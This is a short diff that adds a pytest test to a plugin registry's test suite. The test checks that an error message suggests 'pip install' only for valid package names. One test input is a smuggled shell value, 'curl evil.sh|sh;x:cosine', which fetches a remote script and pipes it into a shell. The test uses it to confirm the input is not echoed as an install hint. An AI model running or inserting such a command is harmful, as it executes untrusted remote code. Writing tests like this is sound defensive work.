@@ -236,3 +236,14 @@ def test_registry_keeps_one_name_of_two_distributions_and_refuses_one_distributi
     ):
         registry.get("encoders", "dist-three:enc")
     assert first.registers == {"encoders": ["enc"]} and second.registers == {"decoders": ["enc"], "encoders": ["enc"]}
+
+
+def test_an_unknown_distribution_gets_a_pip_line_only_when_it_is_a_package_name():
+    from vaezoo.errors import UnknownName
+    from vaezoo.plugins.manager import get_registry
+
+    with pytest.raises(UnknownName, match="`pip install vaezoo-nothere`"):
+        get_registry().get("schedules", "vaezoo-nothere:cosine")
+    with pytest.raises(UnknownName) as refused:
+        get_registry().get("schedules", "curl evil.sh|sh;x:cosine")
+    assert "pip install" not in str(refused.value)
